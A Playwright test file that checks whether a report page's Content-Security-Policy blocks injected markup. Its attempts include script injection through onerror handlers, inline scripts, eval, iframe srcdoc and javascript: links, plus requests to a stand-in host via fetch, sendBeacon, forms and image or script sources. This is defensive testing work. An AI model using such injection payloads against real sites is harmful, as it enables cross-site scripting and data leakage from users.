import type { Page } from '@playwright/test'
import { expect, REPORT, test } from './test'
import { policyViolations, watchViolations } from './violations'

/*
 * Markup that a hole in the site would let an attacker write into a page, and the proof that none
 * of it does anything. The same is tried with the policy taken out of the page, where all of it
 * must work: else the test would prove nothing.
 */

const ELSEWHERE = 'http://elsewhere.test'

declare global {
  interface Window {
    attempts: Record<string, () => void>
    /** Set by whatever runs. */
    injected?: boolean
  }
}

/** Runs in the page. */
function makeAttempts(elsewhere: string): Record<string, () => void> {
  const into = (markup: string) => {
    const place = document.createElement('div')
    document.body.append(place)
    place.innerHTML = markup
  }
  const append = (name: string, properties: object) => {
    document.body.append(Object.assign(document.createElement(name), properties))
  }
  return {
    'a handler in markup': () => into('<img src="/gone.png" onerror="window.injected = true">'),
    'a handler in an attribute': () => {
      document.body.setAttribute('onclick', 'window.injected = true')
      document.body.click()
    },
    'a script element': () => append('script', { textContent: 'window.injected = true' }),
    'a script of another origin': () => append('script', { src: `${elsewhere}/script.js` }),
    'a script in an address': () =>
      append('script', { src: 'data:text/javascript,window.injected=true' }),
    'a frame with a page in it': () =>
      into('<iframe srcdoc="<script>parent.injected = true</script>"></iframe>'),
    /* eslint-disable @typescript-eslint/no-implied-eval, @typescript-eslint/no-unsafe-call -- this is what is tried */
    'an evaluated string': () => void window.eval('window.injected = true'),
    'a function of a string': () => void new Function('window.injected = true')(),
    'a timer with a string': () => void setTimeout('window.injected = true'),
    /* eslint-enable */
    'a link with a program': () => {
      const link = Object.assign(document.createElement('a'), {
        href: 'javascript:void (window.injected = true)',
      })
      document.body.append(link)
      link.click()
    },
    'a worker of its own text': () => {
      const program = new Blob(['postMessage(1)'], { type: 'text/javascript' })
      new Worker(URL.createObjectURL(program)).onmessage = () => (window.injected = true)
    },
    'a picture that tells another origin': () => append('img', { src: `${elsewhere}/told.png` }),
    'a request to another origin': () => void fetch(`${elsewhere}/told`).catch(() => {}),
    'a beacon to another origin': () => void navigator.sendBeacon(`${elsewhere}/told`, 'x'),
    'a style sheet of another origin': () =>
      append('link', { rel: 'stylesheet', href: `${elsewhere}/style.css` }),
    'a style element': () =>
      append('style', { textContent: `body { background: url(${elsewhere}/told.png) }` }),
    'a form to another origin': () => {
      append('form', { action: `${elsewhere}/told`, method: 'post' })
      document.forms[document.forms.length - 1]?.submit()
    },
    'another base of addresses': () => {
      document.head.prepend(
        Object.assign(document.createElement('base'), { href: `${elsewhere}/` }),
      )
      append('img', { src: 'told.png' })
    },
  }
}

/** Opens the report, its policy changed, and counts what another origin is asked for. */
async function open(page: Page, change: (html: string) => string) {
  const outside: string[] = []
  await watchViolations(page)
  await page.addInitScript(
    `window.attempts = (${makeAttempts.toString()})(${JSON.stringify(ELSEWHERE)})`,
  )
  await page.route(`${ELSEWHERE}/**`, (route) => {
    outside.push(route.request().url())
    return route.fulfill({ contentType: 'text/javascript', body: 'window.injected = true' })
  })
  await page.route(`**${REPORT}`, async (route) => {
    const response = await route.fetch()
    await route.fulfill({ response, body: change(await response.text()) })
  })
  await page.goto(REPORT)
  // From a timer, since what a debugger evaluates may evaluate strings.
  const attempt = (name: string) =>
    page.evaluate((key) => void setTimeout(() => window.attempts[key]?.()), name)
  const hasRun = async () =>
    outside.length > 0 || (await page.evaluate(() => window.injected ?? false).catch(() => false))
  return { attempt, hasRun }
}

const POLICY = /<meta http-equiv="Content-Security-Policy" content="[^"]*"\/>/
const TRUSTED_TYPES = "; require-trusted-types-for 'script'; trusted-types default"

function without(part: string | RegExp) {
  return (html: string) => {
    expect(html).toMatch(POLICY)
    const changed = html.replace(part, '')
    expect(changed).not.toBe(html)
    return changed
  }
}

for (const name of Object.keys(makeAttempts(''))) {
  for (const [policy, change] of [
    ['', (html: string) => html],
    // As in a browser that does not know them.
    [', without trusted types', without(TRUSTED_TYPES)],
  ] as const) {
    test(`${name} does nothing${policy}`, async ({ page, expectFaults }) => {
      expectFaults(/^/)
      const { attempt, hasRun } = await open(page, change)
      await attempt(name)
      await expect.poll(() => policyViolations(page)).not.toEqual([])
      expect(await hasRun()).toBe(false)
    })
  }

  test(`${name} would do something without the policy`, async ({ page, expectFaults }) => {
    expectFaults(/^/)
    const { attempt, hasRun } = await open(page, without(POLICY))
    await attempt(name)
    await expect.poll(hasRun).toBe(true)
  })
}
